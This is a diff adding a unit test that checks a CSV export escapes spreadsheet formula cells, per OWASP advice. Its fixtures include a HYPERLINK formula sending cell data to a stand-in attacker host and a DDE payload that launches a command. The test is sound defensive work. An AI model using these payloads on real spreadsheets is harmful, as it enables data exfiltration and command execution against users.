@@ -19,3 +19,21 @@ test('quotes cells with commas, quotes, line breaks or edge spaces, and keeps th
     '',
   ]);
 });
+
+test('neutralises cells a spreadsheet would run as formulas, the way OWASP recommends, and keeps numbers numbers', () => {
+  const csv = tableCsv({
+    header: ['指标', '2025年'],
+    rows: [
+      ['=HYPERLINK("https://evil.example/?"&A1,"学前三年毛入园率")', '-0.3'],
+      ['@SUM(A1:A9)', '+5'],
+      ["-3+cmd|' /C calc'!A0", '-12%'],
+      ['\t=1+1', '≥95'],
+    ],
+  });
+  expect(csv.split('\r\n').slice(1, -1)).toEqual([
+    `"'=HYPERLINK(""https://evil.example/?""&A1,""学前三年毛入园率"")",-0.3`,
+    `'@SUM(A1:A9),+5`,
+    `'-3+cmd|' /C calc'!A0,-12%`,
+    `'\t=1+1,≥95`,
+  ]);
+});
